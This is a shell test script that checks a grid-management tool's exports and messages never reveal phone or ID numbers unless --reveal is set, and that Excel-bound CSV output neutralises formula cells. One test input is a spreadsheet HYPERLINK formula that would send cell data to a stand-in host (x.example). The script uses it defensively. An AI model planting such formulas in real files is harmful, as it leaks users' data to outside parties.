#!/bin/sh
# no output without --reveal carries a phone or ID number: examples/ loaded,
# issues filed whose texts, notes, answers and reasons carry the numbers of
# tests/fixtures/scrub-corpus.tsv written every way people write them; then
# every output -- grid-export issues and events and visits in every mode,
# Open311, issue-list, issue-show as text and rows, the echo wall as text
# and HTML, grid-top's board, stats --agenda, dry runs, rejected rows and
# refusals on stderr -- is
# searched for every phone and ID number of the county and of the corpus,
# however the output writes them (full-width, with separators).  With
# --reveal they are there; the corpus's lookalikes come out untouched.
# And CSV for Excel (--bom) neutralises formula cells.
. "$(dirname "$0")/lib.sh"
example_store
grid-import --no-summary rules "$EX/rules.csv"
grid-assign pair -q >/dev/null 2>&1
CORPUS=$FIX/scrub-corpus.tsv
export GRID_NOW='2013-07-01 09:00'

# the numbers to look for, as digits: the county's and the corpus's
{
	cut -d, -f5 "$EX/cadres.csv" | sed 1d
	cut -d, -f4,5 "$EX/households.csv" | sed 1d | tr ',' '\n'
	awk -F '\t' '$1 == "leak" { print $2 }' "$CORPUS"
} | tr -d -- '-' | grep -E '^[0-9]{7,}X?$' | sort -u >numbers
like "$(wc -l <numbers)" '^ *[0-9]{4}' "a few thousand numbers to look for"

# the digits of an output as the scrubber reads them: full-width digits
# folded, separators between digits dropped
digits() {
	sed -e 's/０/0/g; s/１/1/g; s/２/2/g; s/３/3/g; s/４/4/g' \
	    -e 's/５/5/g; s/６/6/g; s/７/7/g; s/８/8/g; s/９/9/g; s/Ｘ/X/g' \
	    -e 's/＋/+/g; s/　/ /g; s/ / /g; s/[－–—‐−．。／（）【】·・]/-/g' |
		sed -E ':a
s/([0-9])[-. /()+]{1,3}([0-9X])/\1\2/
ta'
}

# leaks FILE: the numbers FILE holds
leaks() {
	digits <"$1" | grep -oE '[0-9]+X?' | grep -xF -f numbers | sort -u
}

# none NAME FILE: FILE holds none of the numbers
none() {
	_l=$(leaks "$2")
	is "$_l" "" "$1: no phone or ID number"
}

# issues: one a corpus line, on households of the county
hh=$(sql "SELECT code FROM households ORDER BY code LIMIT 300")
awk -F '\t' '$1 == "leak" || $1 == "keep" { print $3 }' "$CORPUS" >texts
{
	echo household,category,text,source
	printf '%s\n' "$hh" | head -n "$(wc -l <texts)" | paste -d '\t' - texts |
		awk -F '\t' '{ printf "%s,邻里纠纷,\"%s\",hotline\n", $1, $2 }'
} >issues.csv
run issue-file --no-summary issues.csv
is "$rc.$(printf '%s\n' "$out" | wc -l | tr -d ' ')" "0.$(wc -l <texts | tr -d ' ')" \
	"every corpus line filed as an issue"
n=$(wc -l <texts | tr -d ' ')
nleak=$(awk -F '\t' '$1 == "leak"' "$CORPUS" | wc -l | tr -d ' ')

# notes, answers and reasons: the leak lines ten at a time
awk -F '\t' '$1 == "leak" { g = g (n++ % 10 ? "；" : "") $3 }
	n % 10 == 0 && g != "" { print g; g = "" }
	END { if (g != "") print g }' "$CORPUS" >groups
i=0
while IFS= read -r g; do
	i=$((i + 1))
	issue-update -q --note "$g" "$i" >/dev/null 2>&1
	issue-update -q --resolve --note "$g" "$((i + 20))" >/dev/null 2>&1
	issue-update -q --reject --reason "$g" "$((i + 40))" >/dev/null 2>&1
	h=$(printf '%s\n' "$hh" | sed -n "${i}p")
	c=$(sql "SELECT cadre FROM pairs WHERE household = '$h'
		AND ended_at IS NULL")
	visit-log --note "$g" "$c" "$h" >/dev/null 2>&1
done <groups
like "$(sql "SELECT count(*) FROM events WHERE kind = 'note'")" '^1[0-9]$' \
	"notes written"
like "$(sql "SELECT count(*) FROM issues WHERE answer IS NOT NULL")" '^1[0-9]$' \
	"answers written"
like "$(sql "SELECT count(*) FROM visits WHERE note IS NOT NULL")" '^1[0-9]$' \
	"visit notes written"
leaks_in_store=$(sql "SELECT text, answer, reason FROM issues" >store.txt; leaks store.txt | wc -l)
like "$leaks_in_store" '^ *[1-9][0-9]' "the store holds the numbers as typed"

for m in tsv csv jsonl table; do
	grid-export issues -o "$m" >"issues.$m" 2>/dev/null
	none "grid-export issues -o $m" "issues.$m"
	grid-export issues -o "$m" --bom >"issues-bom.$m" 2>/dev/null
	none "grid-export issues -o $m --bom" "issues-bom.$m"
done
for k in events visits households cadres; do
	grid-export "$k" -o jsonl >"$k.jsonl" 2>/dev/null
	none "grid-export $k" "$k.jsonl"
done
grid-export issues -o open311 >open311.json
none "grid-export issues -o open311" open311.json
for m in tsv table; do
	issue-list -o "$m" >"list.$m"
	none "issue-list -o $m" "list.$m"
done
seq 1 "$n" | issue-show -o text >show.txt
none "issue-show -o text" show.txt
seq 1 "$n" | issue-show -o tsv >show.tsv
none "issue-show -o tsv" show.tsv
for v in $(sql "SELECT DISTINCT grid FROM households WHERE code IN
	(SELECT household FROM issues)"); do
	echo-wall --since 2013-01-01 -o tsv "$v"
	echo-wall --since 2013-01-01 -o html "$v"
done >wall 2>/dev/null
none "echo-wall, text and html" wall
like "$(grep -c '' wall)" '^[0-9]{3}' "the walls are not empty"
grid-top --once --limit 1000 >top.txt 2>&1
none "grid-top --once" top.txt
grid-top --once --limit 1000 --panel latest -o tsv >top.tsv 2>&1
none "grid-top --once --panel latest" top.tsv
escalate --dry-run -o tsv >esc.tsv 2>&1
none "escalate --dry-run" esc.tsv
audit-draw --dry-run --count 64 --seed 1 -o tsv >draw.tsv 2>&1
none "audit-draw --dry-run" draw.tsv

# rejected rows on stderr: a phone and an ID where codes belong
printf 'household,cadre\n13800138000,C00001\n371399193506195674,C00001\n' |
	grid-import pairs - >pairs.out 2>pairs.err
none "grid-import's rejects on stderr" pairs.err
like "$(cat pairs.err)" "138\*\*\*\*8000" "the rejected code is named, masked"
printf 'household,category,text\n13800138000,其他,x\n' |
	issue-file --dry-run - >file.out 2>file.err
none "issue-file --dry-run, its rejects on stderr" file.err

run issue-file --household 13800138000 --category 其他 --text x
printf '%s\n' "$err" >flag.err
none "issue-file's refusal on stderr" flag.err

# stats --agenda --list: the issues of the grids' meetings, one a row, with
# their texts and notes, after escalations
GRID_NOW='2013-08-15 09:00' escalate -q >/dev/null 2>&1
for v in $(sql "SELECT DISTINCT rung_grid FROM issues WHERE rung_grid IS NOT NULL"); do
	GRID_NOW='2013-08-15 09:00' stats --agenda --list --grid "$v" -o tsv
	GRID_NOW='2013-08-15 09:00' stats --agenda --decisions --grid "$v" -o tsv
done >agenda.tsv 2>&1
none "stats --agenda" agenda.tsv
like "$(grep -c '' agenda.tsv)" '^[0-9]{3}' "the packs are not empty"

# with --reveal the numbers are there; the lookalikes never change
grid-export issues -o tsv --reveal >reveal.tsv
is "$(leaks reveal.tsv | grep -cxF -f - numbers)" \
	"$(awk -F '\t' '$1 == "leak" { print $2 }' "$CORPUS" | tr -d -- - | sort -u | wc -l | tr -d ' ')" \
	"grid-export --reveal: every corpus number as typed"
seq 1 "$n" | issue-show -o tsv --reveal >reveal-show.tsv
like "$(leaks reveal-show.tsv | wc -l)" '^ *[1-9][0-9]' "issue-show --reveal: the notes as typed"
issue-list --reveal -o tsv >reveal-list.tsv
like "$(leaks reveal-list.tsv | wc -l)" '^ *[1-9][0-9]' "issue-list --reveal: the text as typed"
is "$(cut -f5 issues.tsv | sed 1d | tail -n "$((n - nleak))")" \
	"$(tail -n "$((n - nleak))" texts)" \
	"every lookalike comes out of grid-export as it was typed"
is "$(cut -f10 list.tsv | sed 1d | tail -n "$((n - nleak))")" \
	"$(tail -n "$((n - nleak))" texts)" \
	"and out of issue-list"

# CSV for Excel: a text Excel would run as a formula is text after a '
f=$(issue-file --grid 371399 --category 其他 \
	--text '=HYPERLINK("http://x.example/?"&A1,"点击")')
run grid-export issues -o csv --bom
like "$(printf '%s\n' "$out" | grep "^$f,")" \
	",\"'=HYPERLINK\(\"\"http://x.example/\?\"\"&A1,\"\"点击\"\"\)\"," \
	"grid-export -o csv --bom: a formula cell neutralised"
run grid-export issues -o tsv --bom
like "$(printf '%s\n' "$out" | grep "^$f	")" "	'=HYPERLINK" \
	"grid-export -o tsv --bom: the same"
run grid-export issues -o csv
like "$(printf '%s\n' "$out" | grep "^$f,")" ',"=HYPERLINK' \
	"without --bom, for the next program: as typed"

done_testing
